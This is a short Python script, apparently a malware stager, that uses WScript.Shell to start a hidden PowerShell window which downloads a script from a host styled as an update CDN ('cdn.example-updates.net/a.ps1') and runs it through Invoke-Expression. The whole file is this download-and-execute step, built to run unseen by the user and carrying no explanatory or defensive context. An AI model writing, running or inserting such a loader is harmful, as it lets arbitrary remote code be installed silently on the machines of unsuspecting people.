import win32com.client
shell = win32com.client.Dispatch("WScript.Shell")
shell.Run('powershell -w hidden -c "iwr https://cdn.example-updates.net/a.ps1 | iex"', 0, False)
